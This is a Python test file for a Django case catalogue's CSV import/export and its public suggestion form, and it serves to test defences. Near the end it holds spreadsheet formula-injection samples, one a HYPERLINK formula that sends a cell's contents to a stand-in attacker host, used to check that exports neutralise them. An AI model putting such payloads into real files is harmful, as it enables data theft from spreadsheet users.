"""Cases that come in from outside the admin's forms: a CSV file an editor imports, and the
public "suggest a case" form."""

import csv
import io
import re
from html import unescape

import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext

from cases import csv_format, writes
from cases.models import Contributor, Impact, Innovation, Institution, Suggestion, Theme
from tests.factories import user_in
from tests.helpers import assert_derived_right, row_slugs, suggestion

pytestmark = pytest.mark.django_db

IMPORT = "/admin/cases/innovation/import/"
IMPACT = csv_format.IMPACT_FIELDS[:5]  # statement, qualifier, figure, out_of, unit
HEADER = (
    csv_format.BASE_COLUMNS
    + csv_format.impact_columns(1, IMPACT)
    + csv_format.impact_columns(2, IMPACT)
)


def csv_file(*rows, header=HEADER):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header)
    for row in rows:
        writer.writerow([row.get(name, "") for name in header])
    return SimpleUploadedFile("cases.csv", out.getvalue().encode(), content_type="text/csv")


def a_row(slug, **changes):
    return {
        "slug": slug,
        "title": f"Imported {slug}",
        "institution": "kela",
        "status": "draft",
        "position": "5",
        "themes": "customer-centricity; leadership",
        "sources": "",
        "summary": "Imported from a member's file.",
        "impact_1": "Waiting times halved.",
        "impact_2": "1,500 letters rewritten.",
        "impact_2_figure": "1500",
        "impact_2_unit": "letters",
        **changes,
    }


def upload(client, file):
    return client.post(IMPORT, {"file": file})


def confirm(client, response):
    return client.post(IMPORT, {"csv_text": response.context["csv_text"], "confirm": "1"})


# Import ----------------------------------------------------------------------------------


def test_a_valid_file_shows_a_dry_run_then_creates_its_cases(editor):
    response = upload(editor, csv_file(a_row("imported-one"), a_row("imported-two")))
    html = response.content.decode()
    assert "Dry run: nothing has been written yet" in html
    assert html.count("adds this case") == 2
    assert not Innovation.objects.filter(slug__startswith="imported-").exists()

    response = confirm(editor, response)
    assert response.status_code == 302
    case = Innovation.objects.get(slug="imported-one")
    assert case.institution.slug == "kela" and case.status == "draft"
    assert sorted(case.themes.values_list("slug", flat=True)) == [
        "customer-centricity",
        "leadership",
    ]
    impacts = list(case.impacts.all())
    assert [impact.statement for impact in impacts] == [
        "Waiting times halved.",
        "1,500 letters rewritten.",
    ]
    assert impacts[1].figure_text == "1,500 letters"
    assert Innovation.objects.filter(slug__startswith="imported-").count() == 2


def test_one_bad_row_creates_nothing_and_names_its_line(editor):
    file = csv_file(
        a_row("imported-one"),
        a_row("imported-two", themes="leadership; no-such-theme"),
        a_row("imported-three", impact_1_unit="people"),  # a unit without a figure
        a_row("imported-four"),
    )
    response = upload(editor, file)
    html = response.content.decode()
    assert "Nothing was imported: 2 of 4 rows cannot be used." in html
    assert "<td>3</td><td>imported-two</td>" in html
    assert "There is no theme “no-such-theme”." in html
    assert "<td>4</td><td>imported-three</td>" in html
    assert "impact_1" in html
    assert "csv_text" not in html  # no way to confirm
    assert not Innovation.objects.filter(slug__startswith="imported-").exists()


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "The submitted file is empty."),
        (b"slug,title\n", "It lacks the columns institution, status"),
        ("\ufeff".encode() + b",".join(n.encode() for n in HEADER) + b",colour\n", "colour"),
        (b"slug\x81,title\n", "The file is neither UTF-8 nor Windows-1252 text."),
        (",".join(HEADER).encode() + b"\n", "The file has a header but no cases."),
        (",".join(HEADER).encode() + b"\nonly,three,cells\n", "it has 3 cells"),
    ],
)
def test_unreadable_files_are_explained(editor, content, message):
    response = upload(editor, SimpleUploadedFile("cases.csv", content))
    assert response.status_code == 200
    assert message in response.content.decode()
    assert Innovation.objects.count() == 12


def excel_file(*rows, encoding):
    """What Excel writes as "CSV" in a French, German or Spanish locale: semicolons, and
    UTF-8 with a byte-order mark ("CSV UTF-8") or Windows-1252 (plain "CSV")."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    writer.writerow(HEADER)
    for row in rows:
        writer.writerow([row.get(name, "") for name in HEADER])
    return SimpleUploadedFile("cases.csv", out.getvalue().encode(encoding))


@pytest.mark.parametrize("encoding", ["utf-8-sig", "cp1252"])
def test_an_excel_file_with_semicolons_imports_in_either_encoding(editor, encoding):
    row = a_row("imported-excel", title="Télédéclaration; für Ämter", summary="Año «nuevo».")
    response = upload(editor, excel_file(row, encoding=encoding))
    html = response.content.decode()
    assert "Dry run: nothing has been written yet" in html
    assert ("read as Windows-1252" in html) == (encoding == "cp1252")  # check the accents
    confirm(editor, response)
    case = Innovation.objects.get(slug="imported-excel")
    assert (case.title, case.summary) == ("Télédéclaration; für Ämter", "Año «nuevo».")
    assert case.themes.count() == 2


def test_the_import_offers_a_template_file_of_its_columns(editor):
    template = editor.get(IMPORT + "template.csv")
    assert template["Content-Type"] == "text/csv; charset=utf-8"
    header = template.content.decode("utf-8-sig").splitlines()
    parts = [column for kind in csv_format.PARTS for column in kind.columns(1)]
    assert header == [",".join(csv_format.ALL_COLUMNS + parts)]
    assert "partner_1_role" in parts and "award_1_year" in parts and "link_1_title" in parts
    assert (
        'href="/admin/cases/innovation/import/template.csv"' in editor.get(IMPORT).content.decode()
    )
    assert Client().get(IMPORT + "template.csv").status_code == 302  # to the sign-in


def catalogue_state():
    """Each case's fields, themes and impacts, as the import format carries them."""
    return {
        case.slug: (
            case.title,
            case.summary,
            case.story,
            case.status,
            case.position,
            sorted(case.themes.values_list("slug", flat=True)),
            list(case.impacts.values_list("statement", "qualifier", "figure", "out_of", "unit")),
        )
        for case in Innovation.objects.all()
    }


def test_export_and_import_round_trip_without_change(editor):
    before = catalogue_state()
    response = editor.post(
        "/admin/cases/innovation/",
        {
            "action": "export_csv",
            "_selected_action": list(Innovation.objects.values_list("pk", flat=True)),
        },
    )
    content = response.content
    assert content.startswith("\ufeff".encode())
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    assert [row["slug"] for row in rows][:3] == [
        "agile-benefit-design",
        "staff-capabilities-for-innovation",
        "design-thinking",
    ]

    response = upload(editor, SimpleUploadedFile("export.csv", content))
    assert response.content.decode().count("no change") == 12
    assert confirm(editor, response).status_code == 302
    after = catalogue_state()
    assert after == before


def test_an_import_changes_an_existing_case_and_replaces_its_impacts(client, editor):
    row = a_row("design-thinking", institution="esdc", status="published", title="Five hours")
    response = upload(editor, csv_file(row))
    html = response.content.decode()
    assert "changes title, " in html and "impacts" in html and "adds this case" not in html
    confirm(editor, response)
    case = Innovation.objects.get(slug="design-thinking")
    assert case.title == "Five hours"
    assert list(case.impacts.values_list("statement", flat=True)) == [
        "Waiting times halved.",
        "1,500 letters rewritten.",
    ]
    assert "Five hours" in Client().get("/innovations/design-thinking/").content.decode()


def test_a_contributor_cannot_import_published_cases_or_other_institutions(client):
    user = user_in("Contributors", "contrib")
    Contributor.objects.create(user=user, institution=Institution.objects.get(slug="kela"))
    client.force_login(user)
    writes.withdraw(Innovation.objects.filter(slug="experimentation-fund"))  # a CPF draft
    file = csv_file(
        a_row("mine"),
        a_row("published-by-me", status="published"),
        a_row("not-mine", institution="cpf"),
        a_row("experimentation-fund", institution="cpf"),  # CPF's draft
        a_row("user-profile-analyses"),  # Kela's, but published
    )
    html = upload(client, file).content.decode()
    assert "Nothing was imported: 4 of 5 rows cannot be used." in html
    for line, slug in [
        (3, "published-by-me"),
        (4, "not-mine"),
        (5, "experimentation-fund"),
        (6, "user-profile-analyses"),
    ]:
        assert f"<td>{line}</td><td>{slug}</td>" in html
    assert "<td>2</td><td>mine</td>" not in html


def test_an_import_tells_a_contributor_nothing_of_cases_they_may_not_see(client):
    """A tied contributor's row with the slug of another institution's draft reads as any
    new case (the dry run is no way to learn which slugs exist), and adds their own case
    under a free slug, the other left as it was."""
    user = user_in("Contributors", "contrib")
    Contributor.objects.create(user=user, institution=Institution.objects.get(slug="kela"))
    client.force_login(user)
    writes.withdraw(Innovation.objects.filter(slug="experimentation-fund"))  # a CPF draft
    answers = {
        slug: upload(client, csv_file(a_row(slug, title="Mine")))
        for slug in ("unused", "experimentation-fund")
    }
    dry_runs = [
        re.sub(r'csrfmiddlewaretoken" value="\w+"', "", response.content.decode()).replace(
            slug, "SLUG"
        )
        for slug, response in answers.items()
    ]
    assert dry_runs[0] == dry_runs[1]
    assert "adds this case" in dry_runs[1]

    assert confirm(client, answers["experimentation-fund"]).status_code == 302
    mine = Innovation.objects.get(title="Mine")
    assert (mine.slug, mine.institution.slug) == ("experimentation-fund-2", "kela")
    theirs = Innovation.objects.get(slug="experimentation-fund")
    assert (theirs.institution.slug, theirs.title) != ("kela", "Mine")


def test_a_dry_run_reads_the_files_cases_not_the_catalogue(editor, add_cases):
    """At 4,000 cases a one-row dry run read every case with its impacts (2 to 3 s)."""
    add_cases(30)
    with CaptureQueriesContext(connection) as made:
        response = upload(editor, csv_file(a_row("design-thinking"), a_row("a-new-one")))
    assert response.status_code == 200 and "adds this case" in response.content.decode()
    reads = [query["sql"] for query in made.captured_queries]
    whole = [sql for sql in reads if 'FROM "cases_innovation"' in sql and "WHERE" not in sql]
    assert whole == []


def test_importing_an_export_unchanged_keeps_every_translation(editor):
    """The dry run says "no change", and so does the import: no case is saved again, and
    each impact keeps its record and its French, Spanish and German statements. A changed
    case keeps the impacts whose statements it still has, translations and all."""
    impact = Impact.objects.filter(innovation__slug="design-thinking").first()
    Impact.objects.filter(pk=impact.pk).update(statement_fr="En français", statement_de="Deutsch")
    impacts = dict(Impact.objects.values_list("pk", "statement_fr"))
    updated = dict(Innovation.objects.values_list("slug", "updated"))
    response = editor.post(
        "/admin/cases/innovation/",
        {
            "action": "export_csv",
            "_selected_action": list(Innovation.objects.values_list("pk", flat=True)),
        },
    )
    response = upload(editor, SimpleUploadedFile("export.csv", response.content))
    assert response.content.decode().count("no change") == 12
    done = confirm(editor, response)
    assert dict(Impact.objects.values_list("pk", "statement_fr")) == impacts
    assert dict(Innovation.objects.values_list("slug", "updated")) == updated
    message = editor.get(done["Location"]).content.decode()
    assert "0 cases imported. 12 rows matched their cases and changed nothing." in message

    row = dict(
        next(
            csv.DictReader(
                io.StringIO(csv_format.csv_text(Innovation.objects.filter(slug="design-thinking")))
            )
        )
    )
    confirm(editor, upload(editor, csv_file({**row, "title": "Renamed"}, header=list(row))))
    kept = Impact.objects.get(pk=impact.pk)
    assert (kept.innovation.title, kept.statement_fr, kept.statement_de) == (
        "Renamed",
        "En français",
        "Deutsch",
    )


def test_an_export_carries_every_field_and_translation_and_imports_them_back(editor):
    from tests.factories import with_every_field

    with_every_field("design-thinking", contact_public=False)
    Innovation.objects.filter(slug="design-thinking").update(lessons_fr="Se réunir une fois.")
    exported = csv_format.csv_text(Innovation.objects.filter(slug="design-thinking"))
    [row] = csv.DictReader(io.StringIO(exported))
    assert (row["year_started"], row["stage"], row["branch"]) == (
        "2022",
        "evaluated",
        "across-branches",
    )
    assert row["contact_public"] == "false" and row["lessons_fr"] == "Se réunir une fois."
    assert row["title_fr"] and row["impact_1_statement_de"]
    changes = {
        "stage": "operating",
        "year_ended": "",
        "contact_public": "true",
        "summary_es": "Resumen revisado.",
        "impact_1_statement_de": "Überarbeitet.",
    }
    response = upload(editor, csv_file({**row, **changes}, header=list(row)))
    assert "changes year_ended, stage, contact_public, summary_es, impacts" in unescape(
        response.content.decode()
    )
    confirm(editor, response)
    case = Innovation.objects.get(slug="design-thinking")
    assert (case.stage, case.year_ended, case.contact_public) == ("operating", None, True)
    assert (case.summary_es, case.lessons_fr) == ("Resumen revisado.", "Se réunir une fois.")
    assert case.impacts.get(position=1).statement_de == "Überarbeitet."
    # A file with the first columns alone leaves every other field as it is.
    short = {name: row[name] for name in HEADER if name in row}
    confirm(editor, upload(editor, csv_file({**short, "title": "Renamed"})))
    case.refresh_from_db()
    assert (case.title, case.stage, case.summary_es) == (
        "Renamed",
        "operating",
        "Resumen revisado.",
    )
    assert case.impacts.get(position=1).statement_de == "Überarbeitet."
    # A value the field cannot take is named, and nothing is written.
    response = upload(editor, csv_file({**row, "stage": "nearly"}, header=list(row)))
    assert "stage: Select a valid choice." in response.content.decode()


def test_an_export_carries_the_cases_partners_awards_and_links_and_imports_them_back(editor):
    from tests.factories import with_every_field

    with_every_field("design-thinking")  # and a link
    exported = csv_format.csv_text(Innovation.objects.filter(slug="design-thinking"))
    [row] = csv.DictReader(io.StringIO(exported))
    assert (row["partner_1"], row["partner_2"]) == ("service-canada", "transport-officers")
    assert row["partner_1_role_fr"].startswith("Par son intermédiaire")
    assert (row["link_1"], row["link_1_title"]) == (
        "https://example.org/passports",
        "Passport programme",
    )
    assert row["award_1"] == ""  # the case has none; the columns are there to fill
    changes = {
        "partner_1_role_fr": "Rôle revu.",
        "partner_2": "",  # no longer its partner
        "partner_2_role": "",
        **{column: "" for column in row if column.startswith("partner_2_role_")},
        "award_1": "ISSA Good Practice Award",
        "award_1_level": "merit",
        "award_1_year": "2021",
        "link_1_title_de": "Das Passprogramm",
    }
    response = upload(editor, csv_file({**row, **changes}, header=list(row)))
    assert "changes partners, awards, links" in unescape(response.content.decode())
    confirm(editor, response)
    case = Innovation.objects.get(slug="design-thinking")
    [kept] = case.collaborations.all()
    assert (kept.partner.slug, kept.role_fr) == ("service-canada", "Rôle revu.")
    assert kept.role_de  # a translation the row did not change stays
    [award] = case.awards.all()
    assert (award.name, award.level, award.year) == (
        "ISSA Good Practice Award",
        "merit",
        2021,
    )
    assert case.links.get().title_de == "Das Passprogramm"
    # A partner the catalogue does not have, or named twice, is refused with its column.
    twice = {**row, "partner_2": "service-canada"}
    html = unescape(upload(editor, csv_file(twice, header=list(row))).content.decode())
    assert "partner_2: the partner is also partner_1." in html
    html = unescape(
        upload(editor, csv_file({**row, "partner_1": "nobody"}, header=list(row))).content.decode()
    )
    assert "partner_1: There is no partner with this slug." in html
    assert case.collaborations.count() == 1  # nothing written


# Suggest a case ----------------------------------------------------------------------------


def test_suggesting_a_case_makes_a_draft_in_review_and_tells_the_editors(
    client, editors_with_email
):
    page = client.get("/suggest/").content.decode()
    required = ' <span class="required">(required)</span></label>'  # marked before sending
    assert f'<label for="id_title">Name of the case{required}' in page
    assert "csrfmiddlewaretoken" in page

    response = client.post("/suggest/", suggestion(), follow=True)
    assert "Thank you for your suggestion" in response.content.decode()
    case = Innovation.objects.get(title="Chatbot for student benefits")
    reference = case.suggestion.reference
    assert re.fullmatch(r"S-\d{6}", reference)
    assert f"Its reference is <strong>{reference}</strong>" in response.content.decode()
    assert case.status == Innovation.Status.REVIEW
    assert case.institution.slug == "kela"
    assert list(case.impacts.values_list("statement", flat=True)) == [
        "A third of questions answered without waiting."
    ]
    assert (case.suggestion.name, case.suggestion.email) == ("Aino Virtanen", "aino@example.org")

    assert case.slug not in row_slugs(client.get("/", {"institution": "kela"}))
    assert client.get(f"/innovations/{case.slug}/").status_code == 404

    message, thanks = mail.outbox
    assert message.to == ["ed@example.org"]
    assert "Chatbot for student benefits" in message.subject
    assert f"/admin/cases/innovation/{case.pk}/change/" in message.body
    assert "aino@example.org" in message.body
    # The sender is thanked with the reference, and with none of the words they typed: the
    # form must not carry a stranger's text to any address.
    assert thanks.to == ["aino@example.org"] and reference in thanks.subject
    assert reference in thanks.body
    assert "Chatbot" not in thanks.body + thanks.subject and "Aino" not in thanks.body
    forged = client.get("/suggest/thanks/", {"reference": "<b>S-1</b>"}).content.decode()
    assert "Its reference is" not in forged


def test_a_suggestion_may_name_its_themes_and_stage_and_offer_its_sender_as_contact(
    client, editors_with_email
):
    themes = [
        str(pk)
        for pk in Theme.objects.filter(slug__in=["leadership", "agile-teamwork"]).values_list(
            "pk", flat=True
        )
    ]
    answers = suggestion(themes=themes, stage="pilot", contact_public="on")
    client.post("/suggest/", answers)
    case = Innovation.objects.get(title="Chatbot for student benefits")
    assert sorted(case.themes.values_list("slug", flat=True)) == ["agile-teamwork", "leadership"]
    assert case.stage == "pilot"
    assert (case.contact_email, case.contact_public) == ("aino@example.org", True)
    # Left empty, they stay empty; the address stays private without the sender's consent.
    client.post("/suggest/", suggestion(title="Another chatbot"))
    other = Innovation.objects.get(title="Another chatbot")
    assert (other.themes.count(), other.stage, other.contact_email) == (0, "", "")
    # Made-up answers are explained, never a server error.
    response = client.post("/suggest/", suggestion(themes=["999999"], stage="finished"))
    html = response.content.decode()
    assert response.status_code == 200
    assert "Choose the themes from the list." in html and "Choose the stage from the list." in html


def test_a_form_with_problems_lists_them_first_each_linked_to_its_field(client):
    response = client.post("/suggest/", suggestion(title="", email="not an address"))
    html = response.content.decode()
    summary = html.split('class="notice error error-summary"')[1].split("</div>")[0]
    assert 'tabindex="-1" autofocus' in summary  # a browser puts the focus on it
    assert '<a href="#id_title">Name of the case: This field is required.</a>' in summary
    assert '<a href="#id_email">' in summary
    assert summary.count("<li>") == 2


def test_a_suggestion_with_a_filled_honeypot_is_thanked_and_dropped(client, editors_with_email):
    response = client.post("/suggest/", suggestion(website="http://spam.example"), follow=True)
    assert "Thank you for your suggestion" in response.content.decode()
    assert not Innovation.objects.filter(title="Chatbot for student benefits").exists()
    assert mail.outbox == []


def test_suggestions_are_rate_limited_per_visitor(client):
    for n in range(5):
        assert client.post("/suggest/", suggestion(title=f"Case {n}")).status_code == 302
    response = client.post("/suggest/", suggestion(title="One too many"))
    assert response.status_code == 429
    html = response.content.decode()
    assert "wait an hour" in html
    assert 'value="One too many"' in html  # nothing typed is lost
    assert not Innovation.objects.filter(title="One too many").exists()
    assert Suggestion.objects.count() == 5
    other = Client(REMOTE_ADDR="192.0.2.7")
    assert other.post("/suggest/", suggestion(title="From elsewhere")).status_code == 302


def test_suggestions_need_the_csrf_token():
    client = Client(enforce_csrf_checks=True)
    assert client.post("/suggest/", suggestion()).status_code == 403
    assert not Innovation.objects.filter(title="Chatbot for student benefits").exists()


def test_a_bad_suggestion_is_explained_and_kept(client):
    response = client.post("/suggest/", suggestion(email="not an address", institution="999"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Enter a valid email address." in html
    assert "Choose your institution from the list." in html
    assert 'value="Chatbot for student benefits"' in html
    assert 'aria-describedby="id_email_helptext id_email_error"' in html
    assert Impact.objects.filter(statement__startswith="A third").count() == 0


def test_suggested_case_slugs_never_collide(client):
    for _ in range(2):
        client.post("/suggest/", suggestion(title="Design thinking"))
    slugs = sorted(
        Innovation.objects.filter(title="Design thinking").values_list("slug", flat=True)
    )
    assert slugs == ["design-thinking-2", "design-thinking-3"]


# Cells a spreadsheet would run -------------------------------------------------------------

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "summary": "=1+1",
    "impact": "@SUM(1)",
}


def exported_cells(editor, slugs):
    response = editor.post(
        "/admin/cases/innovation/",
        {
            "action": "export_csv",
            "_selected_action": list(
                Innovation.objects.filter(slug__in=slugs).values_list("pk", flat=True)
            ),
        },
    )
    return response.content, list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


def test_a_suggestion_with_formulas_is_exported_as_text_and_imports_back_unchanged(client, editor):
    assert client.post("/suggest/", suggestion(**HOSTILE)).status_code == 302
    case = Innovation.objects.get(summary="=1+1")
    case.themes.add(Theme.objects.get(slug="leadership"))  # an import needs one
    case.impacts.create(statement="+31 more offices", position=2)
    case.impacts.create(statement="'=already quoted", position=3)
    content, [row] = exported_cells(editor, [case.slug])
    assert row["title"] == "'" + HOSTILE["title"]
    assert row["summary"] == "'=1+1"
    assert (row["impact_1"], row["impact_2"]) == ("'@SUM(1)", "'+31 more offices")
    assert row["impact_3"] == "''=already quoted"
    for cell in row.values():
        assert not cell or cell[0] not in "=+-@\t\r"

    before = catalogue_state()
    response = upload(editor, SimpleUploadedFile("export.csv", content))
    assert "no change" in response.content.decode()
    assert confirm(editor, response).status_code == 302
    assert catalogue_state() == before
    assert Innovation.objects.get(pk=case.pk).title == HOSTILE["title"]


def test_a_file_exported_before_the_story_was_named_so_still_imports(editor):
    header = [("body" if name == "story" else name) for name in HEADER]
    row = a_row("from-an-old-file", story="The board rewrote its letters.")
    row["body"] = row.pop("story")
    response = upload(editor, csv_file(row, header=header))
    assert "adds this case" in response.content.decode()
    assert confirm(editor, response).status_code == 302
    assert Innovation.objects.get(slug="from-an-old-file").story == "The board rewrote its letters."


def test_the_import_keeps_the_stored_counts(editor):
    rows = [a_row("imported-one", status="published"), a_row("imported-two")]
    confirm(editor, upload(editor, csv_file(*rows)))
    assert Innovation.objects.get(slug="imported-one").status == "published"
    assert_derived_right()
